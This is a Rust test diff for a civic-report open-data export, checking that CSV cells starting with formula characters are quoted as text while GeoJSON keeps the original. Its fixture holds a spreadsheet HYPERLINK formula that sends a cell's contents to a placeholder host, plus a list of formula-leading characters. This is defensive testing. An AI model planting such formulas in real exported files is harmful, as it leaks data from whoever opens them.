@@ -372,6 +372,56 @@ async fn nothing_private_anywhere_public() {
     assert!(csv.contains(&code) && csv.contains("Sampah menumpuk depan rumah"), "{csv}");
 }
 
+/// A verified report whose text is a spreadsheet formula comes out of the
+/// CSV as text a spreadsheet shows rather than runs; numbers, dates and the
+/// GeoJSON keep what was stored.
+#[tokio::test]
+async fn open_data_csv_runs_no_formulas() {
+    let app = app().await;
+    let formula = "=HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"Klik\")";
+    let mut evil = report("sampah", formula, 1.4472, 125.1978);
+    evil["address"] = "@pasar -- dekat gereja".into();
+    let code = app.create_report(&evil).await;
+    app.move_ticket(&code, &json!({"status": "verified"})).await;
+    let plain = app.create_report(&report("banjir", "Air naik sampai lutut", 1.45, 125.2)).await;
+    app.move_ticket(&plain, &json!({"status": "verified"})).await;
+
+    let answer = app.get("/open-data/reports.csv").await;
+    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
+    let text = answer.text();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let header = reader.headers().expect("a header").clone();
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a row")).collect();
+    let cell = |row: &csv::StringRecord, name: &str| -> String {
+        let at = header.iter().position(|h| h == name).expect("the column");
+        row[at].to_owned()
+    };
+    let row = rows.iter().find(|r| cell(r, "code") == code).expect("the report is in the CSV");
+    assert_eq!(cell(row, "description"), format!("'{formula}"), "{text}");
+    assert_eq!(cell(row, "address"), "'@pasar -- dekat gereja");
+    assert_eq!((cell(row, "lat"), cell(row, "lng")), ("1.4472".to_owned(), "125.1978".to_owned()));
+    assert!(cell(row, "created_at").starts_with("20"), "dates are untouched: {text}");
+    assert_eq!(cell(row, "supporters"), "0");
+    let other = rows.iter().find(|r| cell(r, "code") == plain).expect("the other report");
+    assert_eq!(cell(other, "description"), "Air naik sampai lutut", "ordinary text is untouched");
+    // No cell of the whole file begins with a formula character.
+    for row in &rows {
+        for value in row {
+            assert!(!value.starts_with(['=', '+', '-', '@', '\t', '\r']), "{value:?} in {text}");
+        }
+    }
+    // The GeoJSON is read as data, not by spreadsheets: it keeps the text as written.
+    let geojson = app.get("/open-data/reports.geojson").await.json();
+    let feature = geojson["features"]
+        .as_array()
+        .expect("features")
+        .iter()
+        .find(|f| f["id"] == code.as_str())
+        .cloned()
+        .expect("the feature");
+    assert_eq!(feature["properties"]["description"], formula);
+}
+
 /// The files, read by what reusers read them with: the CSV and GeoJSON
 /// agree, and the real server's data package passes `frictionless
 /// validate`, and its GeoJSON GDAL's `ogrinfo`.
